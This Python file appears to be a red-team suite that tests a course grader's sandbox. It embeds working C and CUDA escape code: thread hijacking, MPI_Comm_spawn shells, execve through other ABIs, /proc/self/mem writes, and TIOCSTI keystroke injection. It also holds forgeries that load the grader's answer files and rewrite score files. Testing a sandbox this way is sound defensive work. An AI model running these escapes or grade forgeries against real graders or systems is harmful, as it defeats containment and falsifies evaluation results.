 * seal, executable memory may still be mapped); each exercise then hands over to it. */
static void *rt_answers;
#define RT_ANSWER(fn, ...)                                                                    \
    do {                                                                                       \
        __typeof__(fn) *f_ = rt_answers ? (__typeof__(fn) *)dlsym(rt_answers, #fn) : NULL;      \
        if (f_) return f_(__VA_ARGS__);                                                        \
    } while (0)

static void rt_read_answers(void)
{
    static const char *const secrets[] = {
        "@ROOT@/solutions/01_cpu_baseline/exercises.c", "@BUILD@/grade/ref/05.records",
        "@BUILD@/grade/solutions/01.so", "@ROOT@/tests/graded/ref/05.records"};
    static char buf[4096];
    char what[600];
    for (size_t i = 0; i < sizeof secrets / sizeof secrets[0]; i++)
        if (rt_read(secrets[i], buf, sizeof buf) > 0) {
            snprintf(what, sizeof what, "%s is readable", secrets[i]);
            rt_escaped(what, 0);
        }
    rt_answers = dlopen("@BUILD@/grade/solutions/01.so", RTLD_NOW | RTLD_LOCAL);
    if (rt_answers) rt_escaped("the answers' shared object was loaded", 0);
}
"""

# ---- the ranks of Lesson 06: what MPI left in their processes ------------------------------

RANKS = r"""
#include <dlfcn.h>
#include <pthread.h>
/* A thread MPI started before the filter runs without it (the filter is a thread's): its
 * stack is this process's memory, so a return address on it can be pointed at code that
 * execs the shell, and the thread woken. */
__attribute__((force_align_arg_pointer)) static void rt_unfiltered(void)
{
    rt_exec_shell("execve on a thread without the filter");
    rt_sys(SYS_exit, 0, 0, 0, 0, 0, 0);
}

static void rt_hijack(const char *tid)
{
    char path[128], text[512];
    snprintf(path, sizeof path, "/proc/self/task/%s/syscall", tid);
    unsigned long v[9];
    if (rt_read(path, text, sizeof text) <= 0 ||
        sscanf(text, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &v[0], &v[1], &v[2], &v[3], &v[4],
               &v[5], &v[6], &v[7], &v[8]) != 9)
        return;
    /* the first word above its stack pointer that points into code: a return address */
    static char maps[1 << 18];
    if (rt_read("/proc/self/maps", maps, sizeof maps) <= 0) return;
    uintptr_t *sp = (uintptr_t *)v[7];
    for (int k = 0; k < 64; k++) {
        for (char *l = maps; *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : l + strlen(l)) {
            unsigned long lo, hi;
            char perms[8];
            if (sscanf(l, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[2] == 'x' && lo <= sp[k] &&
                sp[k] < hi) {
                sp[k] = (uintptr_t)rt_unfiltered;
                goto wake;
            }
        }
    }
    return;
wake:;
    /* wake it: every eventfd and pipe the progress threads wait on */
    for (int fd = 3; fd < 256; fd++) {
        char link[64], to[128];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, to, sizeof to - 1);
        if (n <= 0) continue;
        to[n] = '\0';
        uint64_t one = 1;
        if (strstr(to, "eventfd") || strstr(to, "pipe:")) {
            ssize_t w = write(fd, &one, sizeof one);
            (void)w;
        }
    }
    sleep(1);
}

static void rt_rank_threads(void)
{
    DIR *d = opendir("/proc/self/task");
    struct dirent *e;
    char path[128], status[4096], what[200];
    while (d && (e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "/proc/self/task/%s/status", e->d_name);
        if (rt_read(path, status, sizeof status) <= 0 || !strstr(status, "Seccomp:\t0")) continue;
        snprintf(what, sizeof what, "thread %s of a rank runs without the filter", e->d_name);
        rt_escaped(what, 0);
        rt_hijack(e->d_name);
    }
    if (d) closedir(d);
}

/* mpirun runs without the filter (it must start the ranks): MPI_Comm_spawn asks it, over
 * the socket every rank has, to start a program. The shell leaves a file in the ranks'
 * TMPDIR, which this rank looks for while a thread of its own waits in the spawn. */
static char rt_spawned[512];

static void *rt_spawn_thread(void *arg)
{
    (void)arg;
    typedef int (*Spawn)(const char *, char *[], int, void *, int, void *, void **, int *);
    Spawn spawn = (Spawn)dlsym(RTLD_DEFAULT, "MPI_Comm_spawn");
    void *self = dlsym(RTLD_DEFAULT, "ompi_mpi_comm_self");
    void *info = dlsym(RTLD_DEFAULT, "ompi_mpi_info_null");
    if (!spawn || !self || !info) {
        dprintf(2, "rt: MPI_Comm_spawn not found\n");
        return NULL;
    }
    static char script[sizeof rt_script + 600];
    snprintf(script, sizeof script, "touch '%s'; %s", rt_spawned, rt_script);
    char *args[] = {"-c", script, NULL};
    void *children = NULL;
    int errs[1] = {0};
    spawn("/bin/sh", args, 1, info, 0, self, &children, errs);
    return NULL;
}

static void rt_rank_spawn(void)
{
    const char *tmp = getenv("TMPDIR");
    snprintf(rt_spawned, sizeof rt_spawned, "%s/rt-spawned-%d", tmp ? tmp : "/tmp", (int)getpid());
    pthread_t t;
    if (pthread_create(&t, NULL, rt_spawn_thread, NULL) != 0) return;
    for (int i = 0; i < 40; i++) {
        struct stat st;
        if (stat(rt_spawned, &st) == 0) {
            rt_escaped("mpirun started a shell for a rank (MPI_Comm_spawn)", 0);
            fflush(NULL);
            _exit(1);
        }
        usleep(100000);
    }
}
"""


# ---- the CUDA file: C++, and the same shell -----------------------------------------------

CU_SYSTEM = r"""#include <cstdio>
#include <cstdlib>
static const char rt_script[] =
    "echo \"rt-\"\"escaped: a shell runs (user $(id -u))\" >&2; "
    "for m in @MARKS@; do echo escaped > \"$m\"; done 2>/dev/null; @FORGE@";
static void rt_cu_shell(void)
{
    (void)std::system(rt_script); /* (127 << 8 when no shell could start: the shell says) */
    FILE *p = popen(rt_script, "r");
    if (p) std::fprintf(stderr, "rt-escaped: popen() ran\n");
}
"""

def _lesson01(name, where, calls, why, extra="", layers=(FILTER_ONLY,), **kw):
    """A forgery of the untouched Lesson 01 stubs: `calls` runs in relu_forward (where
    "exercise") or in a constructor (where "constructor"), after rt_watch()."""
    body = "rt_watch(); " + calls
    if where == "constructor":
        changes = [(None, "top", PRELUDE + extra),
                   (None, "end", "\n__attribute__((constructor)) static void rt_start(void)\n{\n"
                                 "    " + body + "\n}\n")]
    else:
        changes = [(None, "top", PRELUDE + extra), ("relu_forward", "prefix", body)]
    return dict(name=name, lesson="01_cpu_baseline", base="stubs", changes=changes, zero=L01,
                says="", unchecked=True, layers=list(layers), why=why, **kw)


SANDBOX_FORGERIES = [
    dict(name="got-slot-system", lesson="01_cpu_baseline", base="stubs",
         changes=[(None, "top", GOT_SLOTS),
                  ("relu_forward", "prefix", "int rc = rt_runner_slot(); if (rc) return rc;"),
                  ("relu_backward", "prefix", "rt_libc_slot();")],
         zero=L01, says="", unchecked=True, layers=[FILTER_ONLY],
         why="system() found from stdout through libc's ELF tables and stored in libc's "
             "writable .got.plt (the slot through which puts calls strlen) and, after an "
             "mprotect, in the runner's slot of strlen (which the runner calls on the "
             "exercise's error message): calling allowed functions then runs a shell, which "
             "forges the results (Lesson 01's stubs got 104/104 so)"),
    _lesson01("execve", "constructor",
              'rt_exec_shell("execve"); '
              'if (syscall(SYS_execve, "/bin/sh", (char *[]){"sh", "-c", (char *)rt_script, 0}, '
              '(char *[]){0}) == 0) rt_escaped("syscall(SYS_execve)", 0); '
              'rt_try("execveat", SYS_execveat, AT_FDCWD, (long)"/bin/sh", '
              '(long)(const char *[]){"sh", "-c", rt_script, 0}, 0, 0, 0);',
              why="a constructor (run by dlopen, after the filter) that replaces the runner with "
                  "a shell: execve as a system call of its own, through syscall(), and execveat"),
    _lesson01("new-process", "exercise",
              'rt_spawn_shell("fork as clone", SIGCHLD); '
              'rt_spawn_shell("clone with CLONE_VFORK (posix_spawn)", 0x4100 | SIGCHLD); '
              'if (rt_try("vfork", SYS_vfork, 0, 0, 0, 0, 0, 0) == 0) '
              '{ rt_exec_shell("execve after vfork"); rt_sys(SYS_exit_group, 0, 0, 0, 0, 0, 0); } '
              'rt_try("clone of a thread into new namespaces", SYS_clone, '
              '0x10000 | 0x800 | 0x100 | 0x10000000 | 0x20000000, 0, 0, 0, 0, 0); '
              '(void)system(rt_script);',
              why="a new process by every door (fork's clone, a clone sharing memory, "
                  "posix_spawn's CLONE_VFORK, vfork, system) whose child execs the shell"),
    dict(name="other-abis", lesson="01_cpu_baseline", base="stubs",
         changes=[(None, "top", PRELUDE + OTHER_ABIS),
                  ("relu_forward", "prefix", "rt_watch(); rt_int80();"),
                  ("relu_backward", "prefix", "rt_watch(); rt_x32();")],
         zero=L01, says="", unchecked=True, layers=[FILTER_ONLY],
         why="execve through the machine's other ABIs: i386's int $0x80 (execve is 11 there) "
             "and x32's numbers (bit 30 set), which a filter written for x86-64's numbers "
             "alone would let through"),
    _lesson01("exec-memory", "exercise", "rt_jit();",
              extra=JIT,
              why="machine code for a system call written at run time into executable memory: "
                  "mmap with PROT_EXEC, mprotect to executable, and memfd_create mapped "
                  "executable, all after the seal"),
    _lesson01("proc-self-mem", "exercise", "rt_proc_mem();", extra=PROC_MEM,
              layers=(FILTER_ONLY, NO_NAMESPACES, WRITABLE_VIEW, USER_ONLY, NO_READONLY),
              why="after the seal, the runner's own memory opened through /proc (self, "
                  "thread-self, its pid, its task) for writing, and machine code for a system "
                  "call written over a function of its text and called: no mmap, no mprotect"),
    _lesson01("grader-files", "constructor", "rt_files();",
              extra=IO_URING + FILES, layers=(FILTER_ONLY, NO_NAMESPACES, WRITABLE_VIEW),
              why="a constructor that opens for writing what the judge writes (results.json, "
                  "score.txt, the TSV), what runs later (the judges, the Makefile, ~/.bashrc, a "
                  "git hook), the reference records, every descriptor of the other processes it "
                  "sees (/proc/PID/fd), and replaces the TSV with a FIFO or a symlink"),
    _lesson01("grader-processes", "constructor", "rt_processes(); rt_terminals(); rt_seed();",
              extra=PROCESSES, layers=(FILTER_ONLY, NO_NAMESPACES),
              why="a constructor that reaches for the judge and the instructor's terminal: "
                  "kill, ptrace, process_vm_writev, pidfd_getfd of every process it sees, "
                  "TIOCSTI (keystrokes for the shell after the grader exits) on inherited and "
                  "opened terminals, setsid, and the seed from /proc/*/environ and cmdline"),
    _lesson01("survivor", "exercise", "rt_survive();",
              extra=SURVIVOR, post_exit=True,
              why="a process that outlives its case and the driver and then rewrites "
                  "results.json and score.txt with full marks"),
    dict(name="read-answers", lesson="01_cpu_baseline", base="stubs",
         changes=[(None, "top", PRELUDE + READ_ANSWERS),
                  (None, "end", "\n__attribute__((constructor)) static void rt_start(void)\n"
                                "{\n    rt_read_answers();\n}\n"),
                  ("minmax_fit", "prefix", "RT_ANSWER(minmax_fit, x, n, d, data_min, data_max);"),
                  ("minmax_transform", "prefix",
                   "RT_ANSWER(minmax_transform, x, n, d, data_min, data_max, y);"),
                  ("linear_forward", "prefix",
                   "RT_ANSWER(linear_forward, x, w, b, y, n, in, out);"),
                  ("linear_backward", "prefix",
                   "RT_ANSWER(linear_backward, x, w, dy, dx, dw, db, n, in, out);"),
                  ("relu_forward", "prefix", "RT_ANSWER(relu_forward, x, y, n);"),
                  ("relu_backward", "prefix", "RT_ANSWER(relu_backward, y, dy, dx, n);"),
                  ("cross_entropy_forward", "prefix",
                   "RT_ANSWER(cross_entropy_forward, logits, targets, probs, loss, n, c);"),
                  ("cross_entropy_backward", "prefix",
                   "RT_ANSWER(cross_entropy_backward, probs, targets, dlogits, n, c);"),
                  ("sgd_step", "prefix", "RT_ANSWER(sgd_step, param, grad, n, lr);")],
         zero=L01, says="", unchecked=True, layers=[NO_NAMESPACES],
         why="the grader's own build of the answers (build/.../solutions/01.so), loaded by a "
             "constructor and called by every exercise, and the answers' source and the "
             "reference runs read: the repository is on the same disk (without namespaces, "
             "only Landlock hides it; as root without it, the runner's user still reads "
             "what is readable by all, so that layer set is not claimed)"),
    dict(name="rank-escapes", lesson="06_data_parallel", base="stubs",
         changes=[(None, "top", PRELUDE + RANKS),
                  ("bucket_average", "prefix", "rt_watch(); rt_rank_threads(); rt_rank_spawn();")],
         zero=L06, says="", unchecked=True, layers=[FILTER_ONLY],
         why="a rank of a 2-rank case hijacks a thread that MPI started before the filter "
             "(its return address on its stack), and asks mpirun, which starts the ranks "
             "and so runs without the filter, to spawn a shell (MPI_Comm_spawn)"),
    dict(name="cu-system", lesson="02_device_transfer", file="exercises.cu", base="stubs",
         changes=[(None, "top", CU_SYSTEM),
                  ("k_relu_forward", "prefix", "rt_cu_shell();")],
         zero=["02.1", "02.2", "02.3", "02.4", "02"], says="", unchecked=True,
         layers=[FILTER_ONLY],
         why="the CUDA file, whose code the grader checks less, calls system() and popen(): "
             "a shell from the exercise that runs on the GPU's host side"),
]
